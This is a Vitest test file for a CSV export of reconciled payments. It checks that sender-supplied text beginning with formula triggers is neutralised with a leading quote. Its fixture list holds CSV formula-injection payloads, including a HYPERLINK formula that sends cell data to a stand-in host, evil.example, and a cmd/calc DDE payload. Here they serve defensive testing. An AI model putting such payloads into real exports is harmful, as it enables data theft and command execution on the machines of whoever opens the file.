/** Issue 13, item 6: text a sender typed must never reach a spreadsheet cell as a formula. */
import { describe, expect, it } from 'vitest'
import { csvRows } from '../../src/domain/export/csv.js'
import type { ReconciledPayment } from '../../src/domain/export/types.js'

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1;"cliquez")', '+33 6 12 34 56 78', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '\t=1+1', '\r=1+1']

function payment(text: string, amountCents = -150_000): ReconciledPayment {
  const at = new Date('2026-03-02T09:14:27Z')
  return {
    transactionId: 't-1',
    qontoId: text,
    date: at,
    payer: text,
    iban: text,
    reference: text,
    amountCents,
    currency: 'EUR',
    allocations: [{ invoiceNumber: text, clientId: 'c-1', clientName: text, amountCents, by: text, automatic: false, at }],
  }
}

const TEXT_COLUMNS = [1, 2, 3, 4, 7, 9, 10] // Qonto id, payer, IBAN, reference, invoice, client, associated by
const AMOUNT_COLUMNS = [5, 8]

describe('CSV export and formula injection', () => {
  it.each(FORMULAS)('neutralises %j in every text cell', (formula) => {
    const [row] = csvRows(payment(formula))
    for (const column of TEXT_COLUMNS) {
      expect(row![column]).toBe(`'${formula}`)
    }
  })

  it('leaves the amounts it formats itself alone, negative ones included', () => {
    const [row] = csvRows(payment('=1+1', -150_000))
    for (const column of AMOUNT_COLUMNS) expect(row![column]).toBe('-1500,00')
  })

  it('does not touch ordinary text', () => {
    const [row] = csvRows(payment('DUPONT ET FILS SARL', 144_000))
    expect(row![2]).toBe('DUPONT ET FILS SARL')
    expect(row![5]).toBe('1440,00')
  })
})

describe('neutralizeFormula', () => {
  it('prefixes a single quote to text starting with a formula trigger, and only then', async () => {
    const { neutralizeFormula } = await import('../../src/domain/text/formula.js')
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutralizeFormula(`${start}1+1`)).toBe(`'${start}1+1`)
    for (const plain of ['', 'FAC-2026-0142', ' =1', "'=1", 'a=b', '1-2']) expect(neutralizeFormula(plain)).toBe(plain)
  })
})
